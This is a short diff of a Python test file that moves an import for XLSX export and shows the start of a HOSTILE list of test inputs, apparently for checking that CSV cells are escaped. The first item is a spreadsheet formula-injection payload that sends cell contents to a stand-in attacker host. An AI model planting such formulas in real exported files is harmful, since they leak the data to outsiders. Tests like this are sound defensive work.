@@ -8,7 +8,8 @@ import io
 
 import pytest
 
-from msa_check.batch.export_formats import csv_cell, write_csv, write_xlsx
+from msa_check.batch.export_formats import csv_cell, write_csv
+from msa_check.batch.export_xlsx import write_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?d="&A1)',
